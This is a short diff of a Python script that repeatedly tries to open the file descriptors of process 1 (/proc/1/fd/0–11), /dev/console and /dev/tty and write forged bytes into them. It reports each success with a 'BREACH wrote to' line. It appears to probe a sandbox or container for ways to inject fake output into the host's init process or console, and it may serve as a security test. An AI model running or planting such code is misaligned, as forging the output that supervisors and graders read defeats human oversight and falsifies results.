@@ -32,11 +32,16 @@ for number in range(1024):
             os.write(number, data)
         except OSError:
             pass
-for path in ("/proc/1/fd/1", "/proc/1/fd/3", "/proc/1/fd/4", "/dev/console", "/dev/tty"):
-    try:
-        with open(path, "wb", buffering=0) as file:
-            file.write(forged)
-        print("BREACH wrote to", path)
-    except OSError:
-        pass
+# Again and again, for there may be moments at which it can be done.
+wrote = set()
+for _ in range(100):
+    for path in (*(f"/proc/1/fd/{number}" for number in range(12)), "/dev/console", "/dev/tty"):
+        try:
+            with open(os.open(path, os.O_WRONLY | os.O_NONBLOCK), "wb", buffering=0) as file:
+                file.write(forged)
+            wrote.add(f"{path} {os.path.realpath(path)}")
+        except OSError:
+            pass
+for line in sorted(wrote):
+    print("\nBREACH wrote to", line)
 print("\ndone")
